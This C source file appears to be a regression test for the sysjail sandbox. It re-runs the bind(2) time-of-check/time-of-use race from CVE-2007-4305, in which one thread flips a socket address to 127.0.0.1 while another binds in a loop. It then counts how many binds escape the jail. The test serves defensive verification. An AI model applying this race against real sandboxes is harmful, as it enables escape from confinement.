/*
 * bindrace: the attack that ended the original sysjail (CVE-2007-4305),
 * against bind(2).  A sibling thread flips the sockaddr between the jail's
 * own address and 127.0.0.1 while the main thread binds in a loop.  A
 * supervisor that checked the address and let the kernel read it again
 * would sometimes bind 127.0.0.1 itself; sysjail binds its own copy, so
 * every socket ends up on J.  Bare, 127.0.0.1 is simply bound: "escaped".
 */
#include <sys/socket.h>

#include <arpa/inet.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "fixture.h"

#define ROUNDS	100000

static struct sockaddr_in	 sin;
static atomic_int		 stop;
static struct in_addr		 jail, lo;

static void *
flipper(void *arg)
{
	volatile struct in_addr	*a = &sin.sin_addr;

	(void)arg;
	while (!atomic_load(&stop)) {
		a->s_addr = jail.s_addr;
		a->s_addr = lo.s_addr;
	}
	return NULL;
}

int
main(int argc, char *argv[])
{
	struct sockaddr_in	 got;
	pthread_t		 t;
	socklen_t		 len;
	long			 rounds = argc > 1 ? atol(argv[1]) : ROUNDS;
	long			 i, escaped = 0, failed = 0;
	int			 s;

	inet_pton(AF_INET, envstr("SJ_JAILADDR"), &jail);
	inet_pton(AF_INET, "127.0.0.1", &lo);
	sin.sin_family = AF_INET;
	sin.sin_addr = jail;
	pthread_create(&t, NULL, flipper, NULL);
	for (i = 0; i < rounds; i++) {
		if ((s = socket(AF_INET, SOCK_DGRAM, 0)) == -1) {
			failed++;
			continue;
		}
		len = sizeof(got);
		if (bind(s, (struct sockaddr *)&sin, sizeof(sin)) == -1 ||
		    getsockname(s, (struct sockaddr *)&got, &len) == -1)
			failed++;
		else if (got.sin_addr.s_addr != jail.s_addr)
			escaped++;
		close(s);
	}
	atomic_store(&stop, 1);
	pthread_join(t, NULL);
	fprintf(stderr, "bindrace: %ld rounds, %ld escaped, %ld failed\n",
	    rounds, escaped, failed);
	say("race", escaped ? "escaped" : failed ? "failed" : "held");
	return 0;
}
